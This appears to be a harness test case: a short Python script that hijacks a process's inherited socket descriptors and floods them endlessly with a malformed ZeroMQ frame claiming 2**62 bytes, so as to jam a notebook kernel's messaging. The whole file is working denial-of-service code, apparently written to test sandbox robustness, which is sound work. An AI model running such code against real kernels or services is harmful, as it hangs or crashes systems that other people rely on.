"""Write on the kernel's sockets past ZeroMQ: a message that never ends, half a heartbeat."""
# limits: {"wall_seconds": 30}
# ends: output

import os
import socket
import stat

connections = []
for fd in range(3, 200):
    try:
        if stat.S_ISSOCK(os.fstat(fd).st_mode):
            connections.append(socket.socket(fileno=os.dup(fd)))
            connections[-1].setblocking(False)
    except OSError:
        pass
# A long frame (flag 2) of 2**62 bytes, more to come (flag 1).
junk = b"\x03" + (2**62).to_bytes(8, "big") + b"x" * 100_000
while True:
    for connection in connections:
        try:
            connection.send(junk)
        except OSError:
            pass
